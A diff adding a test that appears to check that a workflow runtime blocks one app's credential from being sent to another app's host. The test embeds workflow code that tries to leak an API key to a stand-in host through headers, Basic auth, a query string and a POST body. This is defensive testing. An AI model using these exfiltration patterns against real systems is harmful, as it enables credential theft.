@@ -29,6 +29,39 @@ test.for(names)('fails by %s', async (attempt) => {
   expect(house.vendor.bytes.includes('GET /smuggled')).toBe(false)
 })
 
+test('fails by a handle of one app in the header, the name and password, or the body of another', async () => {
+  const bindings = {
+    parcels: { runtime: { api_key: '{{steps.trigger.event.body.key}}' }, hosts: [house.app] },
+    desk: {
+      runtime: { token: '{{steps.trigger.event.body.desk}}' },
+      hosts: [house.elsewhere],
+      places: { headers: ['authorization'], query: ['token'], body: ['token'] }
+    }
+  }
+  const code = `export default {
+    props: { parcels: { type: 'app', app: 'parcels' }, desk: { type: 'app', app: 'desk' } },
+    async run() {
+      const [key, own] = [this.parcels.$auth.api_key, this.desk.$auth.token]
+      const to = 'http://${house.elsewhere}/'
+      const json = { 'content-type': 'application/json' }
+      const answers = [
+        await fetch(to, { headers: { authorization: 'Bearer ' + own } }),
+        await fetch(to, { headers: { authorization: 'Bearer ' + key } }),
+        await fetch(to, { headers: { authorization: 'Basic ' + btoa(own + ':' + key) } }),
+        await fetch(to + '?token=' + key),
+        await fetch(to, { method: 'POST', headers: json, body: JSON.stringify({ token: key }) })
+      ]
+      return answers.map(({ status }) => status)
+    }
+  }`
+  const desk = 'desk-credential-0123456789'
+  house.thief.forget()
+  const { body } = await house.attack({ code, step: { auth: bindings, retry: { attempts: 1 } } }, { desk })
+  expect(body).toMatchObject({ code: 'credential_wrong_host' })
+  expect(house.thief.got[0]?.headers.authorization).toBe(`Bearer ${desk}`)
+  expect(house.found()).toEqual([])
+})
+
 test('and after all of it, the server and others go on', async () => {
   await expect(house.judge()).resolves.toBeUndefined()
 })
